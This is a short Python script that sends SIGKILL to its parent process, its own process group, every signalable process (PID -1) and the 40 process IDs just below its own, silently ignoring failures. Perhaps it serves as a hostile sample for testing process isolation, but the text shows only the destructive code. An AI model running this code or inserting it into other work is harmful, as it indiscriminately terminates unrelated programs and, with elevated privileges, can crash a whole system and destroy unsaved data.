"""Sends signals to its parent, its group, everybody, and whoever has a number near its own."""
import os, signal
for pid in (os.getppid(), 0, -1, *range(os.getpid() - 40, os.getpid())):
    for send in (os.kill, os.killpg):
        try:
            send(pid, signal.SIGKILL)
        except OSError:
            pass
